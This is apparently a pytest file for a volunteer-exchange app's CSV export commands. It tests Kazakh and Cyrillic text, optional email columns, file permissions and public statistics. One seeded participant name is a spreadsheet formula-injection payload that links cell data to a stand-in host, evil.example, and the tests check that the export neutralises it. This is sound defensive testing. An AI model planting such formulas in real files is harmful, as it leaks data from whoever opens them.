"""`exchange export participants|stats`: CSV files parsed back on SQLite and PostgreSQL: the
byte order mark, Cyrillic and Kazakh letters intact, formula cells neutralised, email
addresses only with --with-emails, the semicolon style, hand-computed statistics (exact for
the operator, merged with --public), and one-line refusals."""

from __future__ import annotations

import asyncio
import codecs
import csv
import datetime as dt
import io
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from exchange import db
from exchange.cli import app as cli_app
from exchange.models import (
    ExchangeOutcome,
    ExchangeStatus,
    InvitationStatus,
    OutcomeMetric,
    ParticipationRole,
    ParticipationStatus,
    Theme,
)
from exchange.spreadsheets import restored
from tests.api.exchange_fixtures import invite, make_exchange, make_volunteer, take_part
from tests.cli.helpers import process_env
from tests.conftest import make_organisation, make_settings

KAZAKH = "Әлия Қасымова"
ALL_KAZAKH_LETTERS = "Ғалым Һәкім Үкіұлы-Өңқай"  # ә ғ қ ң ө ұ ү һ і, with their capitals
RUSSIAN = "Иван Петров"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
SENDER = "Жасыл Ел"


@pytest.fixture(autouse=True)
def _no_dotenv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Settings read ./.env; a developer's file must not steer the commands under test.
    monkeypatch.chdir(tmp_path)


def seed(database_url: str, tmp_path: Path) -> None:
    """Aral week (published, 2027): four participants; a draft and a 2026 exchange beside it."""

    async def run() -> None:
        await db.init_db(make_settings(database_url, tmp_path), global_fallback=False)
        try:
            await db.migrate()
            host = await make_organisation("aral-eco", names={"kk": SENDER, "en": "Green Land"})
            aral = await make_exchange(
                "aral-week", host, status=ExchangeStatus.COMPLETED, starts_on=dt.date(2027, 5, 10)
            )
            draft = await make_exchange(
                "draft", host, status=ExchangeStatus.DRAFT, starts_on=dt.date(2027, 6, 1)
            )
            earlier = await make_exchange(
                "earlier", host, theme=Theme.HEALTH, country="UZ", starts_on=dt.date(2026, 6, 1)
            )
            people: list[tuple[str, str, ParticipationStatus, float | None, Any]] = [
                (KAZAKH, "KZ", ParticipationStatus.ATTENDED, 6.5, host),
                (ALL_KAZAKH_LETTERS, "KZ", ParticipationStatus.ATTENDED, 4.0, None),
                (RUSSIAN, "RU", ParticipationStatus.CONFIRMED, None, None),
                (FORMULA, "UZ", ParticipationStatus.NO_SHOW, None, None),
            ]
            for index, (name, country, status, hours, organisation) in enumerate(people):
                volunteer = await make_volunteer(
                    name, email=f"person{index}@example.org", country=country, organisation=organisation
                )
                participation = await take_part(
                    volunteer,
                    aral,
                    status=status,
                    role=ParticipationRole.MENTOR if index == 0 else ParticipationRole.PARTICIPANT,
                )
                participation.hours = hours
                participation.attended_session_ids = [1, 2] if hours else []
                await participation.save(update_fields=["hours", "attended_session_ids"])
            for index in range(3):
                await take_part(await make_volunteer(f"Draft {index}", email=f"d{index}@example.org"), draft)
            await take_part(await make_volunteer("Earlier", email="e@example.org", country="UZ"), earlier)
            await invite(aral, "a@example.org", status=InvitationStatus.ACCEPTED)
            for position, (metric, value, unit) in enumerate(
                ((OutcomeMetric.TREES_PLANTED, 1200.0, None), (OutcomeMetric.AREA_RESTORED_HA, 2.5, None))
            ):
                await ExchangeOutcome.create(
                    exchange=aral,
                    position=position,
                    metric=metric,
                    value=value,
                    unit=unit,
                    recorded_at=aral.created_at,
                )
        finally:
            await db.close_db()

    asyncio.run(run())


def export(database_url: str, *args: str) -> Result:
    return CliRunner().invoke(
        cli_app, ["export", *args], env={"EXCHANGE_DATABASE_URL": database_url}, catch_exceptions=False
    )


def parsed(data: bytes, delimiter: str = ",") -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8), data[:10]
    text = data.decode("utf-8-sig")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")  # CRLF, as Excel writes
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def one_line_error(result: Result, text: str, code: int = 1) -> None:
    assert result.exit_code == code, result.stdout
    assert result.stderr.count("\n") == 1 and text in result.stderr, result.stderr
    assert "Traceback" not in result.stderr


# ---------------------------------------------------------------- participants


def test_participants_export_opens_intact_in_every_script(database_url: str, tmp_path: Path) -> None:
    seed(database_url, tmp_path)
    result = export(database_url, "participants", "--exchange", "aral-week")
    assert result.exit_code == 0, result.stderr
    rows = parsed(result.stdout_bytes)
    header, *people = rows
    assert header == [
        "full_name",
        "country",
        "sending_organisation",
        "role",
        "status",
        "hours",
        "sessions_attended",
        "joined_at_utc",
        "attendance_recorded_at_utc",
    ]
    assert [row[:7] for row in people] == [
        [KAZAKH, "KZ", SENDER, "MENTOR", "ATTENDED", "6.5", "2"],
        [ALL_KAZAKH_LETTERS, "KZ", "", "PARTICIPANT", "ATTENDED", "4", "2"],
        [RUSSIAN, "RU", "", "PARTICIPANT", "CONFIRMED", "", "0"],
        ["'" + FORMULA, "UZ", "", "PARTICIPANT", "NO_SHOW", "", "0"],
    ]
    assert restored(people[3][0]) == FORMULA  # text again once read back
    assert set("әғқңөұүһі") <= set(people[1][0].casefold())
    # No email address anywhere without the flag.
    assert "@" not in result.stdout_bytes.decode("utf-8-sig")


def test_emails_only_when_asked_for_and_the_file_is_private(database_url: str, tmp_path: Path) -> None:
    seed(database_url, tmp_path)
    target = tmp_path / "aral.csv"
    target.write_text("old")
    result = export(
        database_url, "participants", "--exchange", "aral-week", "--with-emails", "-o", str(target)
    )
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "" and "wrote" in result.stderr
    header, *people = parsed(target.read_bytes())
    assert header[:3] == ["full_name", "email", "country"]
    assert [row[1] for row in people] == [f"person{index}@example.org" for index in range(4)]
    assert stat.S_IMODE(target.stat().st_mode) == 0o600  # personal data: its owner only


def test_semicolons_for_spreadsheets_that_write_a_decimal_comma(database_url: str, tmp_path: Path) -> None:
    seed(database_url, tmp_path)
    result = export(database_url, "participants", "--exchange", "aral-week", "--semicolons")
    assert result.exit_code == 0, result.stderr
    header, *people = parsed(result.stdout_bytes, delimiter=";")
    assert len(header) == 9
    assert people[0][:6] == [KAZAKH, "KZ", SENDER, "MENTOR", "ATTENDED", "6,5"]


def test_participants_export_refusals(database_url: str, tmp_path: Path) -> None:
    seed(database_url, tmp_path)
    one_line_error(export(database_url, "participants", "--exchange", "no-such"), "No exchange has the slug")
    one_line_error(
        export(database_url, "participants", "--exchange", "Not A Slug!"), "No exchange has the slug"
    )
    one_line_error(
        export(
            database_url, "participants", "--exchange", "aral-week", "-o", str(tmp_path / "missing" / "x.csv")
        ),
        "cannot write",
    )


# ---------------------------------------------------------------- statistics


def figures(rows: list[list[str]]) -> dict[tuple[str, str], str | tuple[str, str]]:
    """{(statistic, key): value}, or (unit, value) where a unit is given."""
    header, *body = rows
    assert header == ["statistic", "key", "unit", "value"]
    return {(statistic, key): (unit, value) if unit else value for statistic, key, unit, value in body}


def test_stats_export_for_a_date_range(database_url: str, tmp_path: Path) -> None:
    seed(database_url, tmp_path)
    # The operator's view: 2027 holds aral-week and the draft (the 2026 exchange is outside).
    result = export(database_url, "stats", "--from", "2027-01-01", "--to", "2027-12-31")
    assert result.exit_code == 0, result.stderr
    assert figures(parsed(result.stdout_bytes)) == {
        ("exchanges", ""): "2",
        ("outcome_total", "TREES_PLANTED"): ("trees", "1200"),
        ("outcome_total", "AREA_RESTORED_HA"): ("ha", "2.5"),
        ("participants", ""): "7",  # 4 in aral-week (the no-show holds a place) and 3 in the draft
        ("volunteer_hours", ""): ("hours", "10.5"),
        ("distinct_countries", ""): "3",
        ("participants_by_country", "KZ"): "5",
        ("participants_by_country", "RU"): "1",
        ("participants_by_country", "UZ"): "1",
        ("participants_by_role", "PARTICIPANT"): "6",
        ("participants_by_role", "MENTOR"): "1",
        ("invitations_by_status", "ACCEPTED"): "1",
        ("exchanges_by_theme", "ECOLOGY"): "2",
        ("exchanges_by_country", "KZ"): "2",
    }
    # What anonymous callers see, to publish: no draft, buckets under 3 people merged.
    # The lone MENTOR takes PARTICIPANT 3 along into "other"; one invitation in all is not shown.
    public = export(database_url, "stats", "--from", "2027-01-01", "--to", "2027-12-31", "--public")
    assert figures(parsed(public.stdout_bytes)) == {
        ("exchanges", ""): "1",
        ("participants", ""): "4",
        ("volunteer_hours", ""): ("hours", "10.5"),
        ("distinct_countries", ""): "3",
        ("participants_by_country", "other"): "4",
        ("participants_by_role", "other"): "4",
        ("exchanges_by_theme", "ECOLOGY"): "1",
        ("exchanges_by_country", "KZ"): "1",
        ("outcome_total", "TREES_PLANTED"): ("trees", "1200"),
        ("outcome_total", "AREA_RESTORED_HA"): ("ha", "2.5"),
    }
    semicolons = export(database_url, "stats", "--from", "2026-01-01", "--to", "2027-12-31", "--semicolons")
    found = figures(parsed(semicolons.stdout_bytes, delimiter=";"))
    assert (found[("exchanges", "")], found[("volunteer_hours", "")]) == ("3", ("hours", "10,5"))
    assert found[("outcome_total", "AREA_RESTORED_HA")] == ("ha", "2,5")


def test_stats_export_refusals(database_url: str, tmp_path: Path) -> None:
    seed(database_url, tmp_path)
    one_line_error(export(database_url, "stats", "--from", "1 May", "--to", "2027-12-31"), "not a date", 2)
    one_line_error(
        export(database_url, "stats", "--from", "2027-01-01", "--to", "2027-13-01"), "not a date", 2
    )
    one_line_error(
        export(database_url, "stats", "--from", "2027-02-01", "--to", "2027-01-01"), "before it starts"
    )
    target = tmp_path / "stats.csv"
    written = export(database_url, "stats", "--from", "2027-01-01", "--to", "2027-12-31", "-o", str(target))
    assert written.exit_code == 0 and written.stdout == ""
    assert figures(parsed(target.read_bytes()))[("exchanges", "")] == "2"


def test_a_real_process_writes_the_bytes_whatever_the_locale(
    sqlite_database_url: str, tmp_path: Path
) -> None:
    """Through a pipe with an ASCII locale: the file's bytes, not text the console re-encodes."""
    seed(sqlite_database_url, tmp_path)
    env = process_env(
        tmp_path, EXCHANGE_DATABASE_URL=sqlite_database_url, LC_ALL="C", PYTHONIOENCODING="ascii"
    )
    done = subprocess.run(
        [sys.executable, "-m", "exchange.cli", "export", "participants", "--exchange", "aral-week"],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    rows = parsed(done.stdout)
    assert rows[1][0] == KAZAKH and rows[2][0] == ALL_KAZAKH_LETTERS
